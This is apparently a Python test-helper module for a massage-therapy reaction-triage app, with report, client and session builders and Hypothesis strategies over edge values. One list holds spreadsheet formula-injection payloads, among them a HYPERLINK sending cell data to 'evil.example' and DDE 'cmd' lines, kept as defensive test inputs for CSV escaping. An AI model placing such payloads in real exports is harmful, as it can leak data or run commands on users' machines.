"""Shared test helpers: report and plan-request builders, and Hypothesis strategies over the whole input space.

- `report_dict(**changes)` / `make_report(**changes)`: a reaction report with the vignette defaults (no
  symptoms, no red flags, pain 5 -> 4, bruise-like, improving, 20 hours, trigger-point therapy, no neck
  treatment, no new pain); `symptoms={...}` and `red_flags={...}` name only what differs.
- `client_dict(**changes)`, `session_dict(**changes)`, `plan_request_dict(...)` / `make_plan_request(...)`.
- `reports()`, `report_dicts()`, `plan_requests()`, `plan_request_dicts()`: Hypothesis strategies that reach
  every enum value (including the `unsure` answers), pain 0 and 10, and the edge hours 0, 48 and 48.0001.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

from hypothesis import strategies as st

from logic.models import (
    RED_FLAG_KEYS,
    SYMPTOM_KEYS,
    Experience,
    FeelsLike,
    Intensity,
    Level,
    NewPain,
    PlanRequest,
    ReactionReport,
    Trajectory,
    Treatment,
    TriggerPointCount,
    TriggerPointSeverity,
)

INTENSITIES = [i.value for i in Intensity]
TREATMENTS = [t.value for t in Treatment]
LEVELS = [lvl.value for lvl in Level]

# --- Builders -------------------------------------------------------------------------------------


def no_red_flags() -> dict[str, bool]:
    return {key: False for key in RED_FLAG_KEYS}


def report_dict(
    *, symptoms: dict[str, str] | None = None, red_flags: dict[str, bool] | None = None, **changes: Any
) -> dict[str, Any]:
    """A reaction report as JSON data; only the answers that differ from the defaults are named."""
    unknown = set(changes) - set(ReactionReport.model_fields)
    if unknown:
        raise TypeError(f"not report fields: {sorted(unknown)}")
    data: dict[str, Any] = {
        "hours_since_treatment": 20,
        "treatment": "trigger_point_therapy",
        "neck_treatment": False,
        "symptoms": dict(symptoms or {}),
        "red_flags": no_red_flags() | dict(red_flags or {}),
        "pain_before": 5,
        "pain_now": 4,
        "feels_like": "bruise_or_irritation",
        "trajectory": "improving",
        "worsening_hours": 0,
        "new_pain_elsewhere": "none",
        "known_fainting_tendency": False,
    }
    data.update(changes)
    return data


def make_report(**changes: Any) -> ReactionReport:
    return ReactionReport.model_validate(report_dict(**changes))


def client_dict(**changes: Any) -> dict[str, Any]:
    """A low-risk client: 40 years old, regular massage, a short complaint, few mild trigger points."""
    data: dict[str, Any] = {
        "age": 40,
        "massage_experience": "regular",
        "condition_months": 2,
        "trigger_points": "few",
        "trigger_point_severity": "mild",
        "stressors": False,
        "bad_experience_before": False,
        "known_fainting_tendency": False,
        "disclosed_conditions": [],
        "conditions_reviewed": True,
    }
    data.update(changes)
    return data


def session_dict(day: int = 0, **changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "date": (dt.date(2026, 1, 5) + dt.timedelta(days=7 * day)).isoformat(),
        "treatment": "trigger_point_therapy",
        "duration_min": 45,
        "pressure": 6,
        "pain_before": 6,
        "pain_after": 5,
        "reaction_level": None,
    }
    data.update(changes)
    return data


def plan_request_dict(
    client: dict[str, Any] | None = None,
    history: list[dict[str, Any]] | None = None,
    planned_treatment: str = "trigger_point_therapy",
) -> dict[str, Any]:
    return {"client": client or client_dict(), "history": history or [], "planned_treatment": planned_treatment}


def make_plan_request(**kwargs: Any) -> PlanRequest:
    return PlanRequest.model_validate(plan_request_dict(**kwargs))


# --- Strategies -----------------------------------------------------------------------------------

# Hours: the E2/X5 two-day edge (48 and just past it) and the F4 few-hours edge, besides any value.
# Spreadsheet formula attacks (OWASP's CSV injection) that every CSV the product writes must escape.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]

EDGE_HOURS = [0, 0.0, 1, 5.9999, 6, 12, 24, 36, 47.9999, 48, 48.0, 48.0001, 49, 72, 500]
hours = st.one_of(
    st.sampled_from(EDGE_HOURS),
    st.floats(min_value=0, max_value=1000, allow_nan=False, allow_infinity=False),
    st.integers(min_value=0, max_value=1000),
)
pain = st.one_of(st.sampled_from([0, 10]), st.integers(min_value=0, max_value=10))
intensity = st.sampled_from(INTENSITIES)


@st.composite
def symptom_dicts(draw: st.DrawFn) -> dict[str, str]:
    """A subset of the symptom keys with intensities; a missing key means `none`."""
    many = draw(st.booleans())
    keys = draw(st.lists(st.sampled_from(SYMPTOM_KEYS), unique=True, max_size=len(SYMPTOM_KEYS) if many else 3))
    # Often only the milder answers, so the lower levels are reached as often as the urgent ones.
    choices = INTENSITIES if draw(st.booleans()) else INTENSITIES[:3]
    return {key: draw(st.sampled_from(choices)) for key in keys}


@st.composite
def red_flag_dicts(draw: st.DrawFn) -> dict[str, bool]:
    """Every red flag answered; most reports have none, so the deeper parts of the tree are reached too."""
    raised = draw(
        st.one_of(
            st.just(frozenset()),
            st.just(frozenset()),
            st.just(frozenset()),
            st.just(frozenset(["fainted"])),  # F2: the one flag whose level depends on another answer
            st.sampled_from(RED_FLAG_KEYS).map(lambda key: frozenset([key])),
            st.frozensets(st.sampled_from(RED_FLAG_KEYS), min_size=1, max_size=3),
            st.frozensets(st.sampled_from(RED_FLAG_KEYS)),
        )
    )
    return {key: key in raised for key in RED_FLAG_KEYS}


@st.composite
def report_dicts(draw: st.DrawFn) -> dict[str, Any]:
    data: dict[str, Any] = {
        "hours_since_treatment": draw(hours),
        "treatment": draw(st.sampled_from(TREATMENTS)),
        "neck_treatment": draw(st.booleans()),
        "symptoms": draw(symptom_dicts()),
        "red_flags": draw(red_flag_dicts()),
        "pain_before": draw(pain),
        "pain_now": draw(pain),
        "feels_like": draw(st.sampled_from([f.value for f in FeelsLike])),
        "trajectory": draw(st.sampled_from([t.value for t in Trajectory])),
        "new_pain_elsewhere": draw(st.sampled_from([n.value for n in NewPain])),
    }
    # Optional fields: sometimes absent, so their defaults are exercised too.
    if draw(st.booleans()):
        data["worsening_hours"] = draw(hours)
    if draw(st.booleans()):
        data["known_fainting_tendency"] = draw(st.booleans())
    return data


def reports() -> st.SearchStrategy[ReactionReport]:
    return report_dicts().map(ReactionReport.model_validate)


ages = st.one_of(st.sampled_from([0, 64, 65, 66, 120]), st.integers(min_value=0, max_value=120))
months = st.one_of(
    st.sampled_from([0, 5.9999, 6, 6.0001, 600]),
    st.floats(min_value=0, max_value=700, allow_nan=False, allow_infinity=False),
)


@st.composite
def client_dicts(draw: st.DrawFn) -> dict[str, Any]:
    return {
        "age": draw(ages),
        "massage_experience": draw(st.sampled_from([e.value for e in Experience])),
        "condition_months": draw(months),
        "trigger_points": draw(st.sampled_from([t.value for t in TriggerPointCount])),
        "trigger_point_severity": draw(st.sampled_from([s.value for s in TriggerPointSeverity])),
        "stressors": draw(st.booleans()),
        "bad_experience_before": draw(st.booleans()),
        "known_fainting_tendency": draw(st.booleans()),
        "disclosed_conditions": draw(
            st.lists(st.sampled_from(["diabetes", "asthma", "pregnancy", "  ", "blood thinners"]), max_size=3)
        ),
        "conditions_reviewed": draw(st.booleans()),
    }


@st.composite
def session_dicts(draw: st.DrawFn, day: int = 0) -> dict[str, Any]:
    return {
        "date": (dt.date(2026, 1, 5) + dt.timedelta(days=day)).isoformat(),
        "treatment": draw(st.sampled_from(TREATMENTS)),
        "duration_min": draw(
            st.one_of(st.sampled_from([1, 20, 45, 60, 240]), st.floats(min_value=0.5, max_value=240, allow_nan=False))
        ),
        "pressure": draw(st.one_of(st.sampled_from([0, 1, 5, 10]), st.floats(min_value=0, max_value=10))),
        "pain_before": draw(pain),
        "pain_after": draw(pain),
        "reaction_level": draw(st.one_of(st.none(), st.sampled_from(LEVELS))),
    }


@st.composite
def plan_request_dicts(draw: st.DrawFn) -> dict[str, Any]:
    count = draw(st.integers(min_value=0, max_value=5))
    days = sorted(draw(st.lists(st.integers(min_value=0, max_value=365), min_size=count, max_size=count)))
    return {
        "client": draw(client_dicts()),
        "history": [draw(session_dicts(day=day)) for day in days],
        "planned_treatment": draw(st.sampled_from(TREATMENTS)),
    }


def plan_requests() -> st.SearchStrategy[PlanRequest]:
    return plan_request_dicts().map(PlanRequest.model_validate)
